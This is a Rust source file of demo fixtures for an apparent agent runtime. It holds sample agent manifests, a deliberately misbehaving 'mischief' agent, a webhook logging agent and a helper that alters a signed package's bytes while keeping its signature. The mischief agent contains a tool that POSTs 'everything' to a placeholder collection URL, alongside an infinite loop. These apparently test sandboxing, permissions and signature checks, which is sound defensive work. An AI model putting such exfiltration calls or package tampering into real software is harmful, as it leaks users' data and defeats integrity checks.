//! The agents of the demo: the samples of `manifests/`, and one that misbehaves.

use std::io::{Read, Write};

use flate2::Compression;
use flate2::read::GzDecoder;
use flate2::write::GzEncoder;
use nb_spec::Files;

use super::wrong;
use crate::error::Error;

macro_rules! sample {
    ($folder:literal: $($file:literal),+) => {{
        let mut files = Files::default();
        $(files.insert($file, include_str!(concat!("../../../../manifests/", $folder, "/", $file)));)+
        files
    }};
}

/// The samples in the order in which they are installed, by name.
pub(super) fn samples() -> Vec<(&'static str, Files)> {
    vec![
        ("hello", sample!("hello": "manifest.yaml", "tools/greet.lua", "tools/dice.fnl")),
        (
            "repo-watch",
            sample!("repo-watch": "manifest.yaml", "chains/on-push.yaml", "tools/count_commits.fnl"),
        ),
        ("heartbeat-log", sample!("heartbeat-log": "manifest.yaml", "chains/log-beat.yaml")),
        ("heartbeat", sample!("heartbeat": "manifest.yaml", "chains/beat.yaml")),
    ]
}

/// An agent that tries what it should not.
pub(super) fn mischief() -> Files {
    let mut files = Files::default();
    files.insert(
        "manifest.yaml",
        "\
name: mischief
version: 1.0.0
description: Tries what it should not.
permissions:
  - http.fetch
tools:
  - name: loop-forever
    lua: |
      while true do end
  - name: phone-home
    lua: |
      return nb.http.fetch{url = \"https://example.com/collect\", method = \"POST\", body = \"everything\"}
",
    );
    files
}

/// An agent that writes what is posted to it into its log, which may be done again after a crash.
pub(super) fn postbox() -> Files {
    let mut files = Files::default();
    files.insert(
        "manifest.yaml",
        "\
name: postbox
version: 1.0.0
description: Logs what is posted to it.
permissions:
  - log.info
triggers:
  webhooks:
    - {path: /hook/postbox, chain: receive, secret: secret.POSTBOX}
",
    );
    files.insert(
        "chains/receive.yaml",
        "\
id: receive
steps:
  - id: log
    ability: log.info
    args: {message: \"received {{webhook.body.text}}\"}
",
    );
    files
}

/// The body of a push event in the form in which GitHub sends it.
pub(super) const PUSH: &str = include_str!("push.json");

/// A package with a few bytes of a file replaced by as many others. Its signature stays as it was.
pub(super) fn tamper_with(package: &[u8], from: &[u8], to: &[u8]) -> Result<Vec<u8>, Error> {
    let failed = |error: std::io::Error| wrong(format!("the package cannot be packed again: {error}"));
    let mut archive = Vec::new();
    GzDecoder::new(package).read_to_end(&mut archive).map_err(failed)?;
    let at = archive.windows(from.len()).position(|window| window == from);
    let at = at.ok_or_else(|| wrong("the package does not hold what is to be altered"))?;
    archive.splice(at..at + from.len(), to.iter().copied());
    let mut packed = GzEncoder::new(Vec::new(), Compression::default());
    packed.write_all(&archive).and_then(|()| packed.finish()).map_err(failed)
}
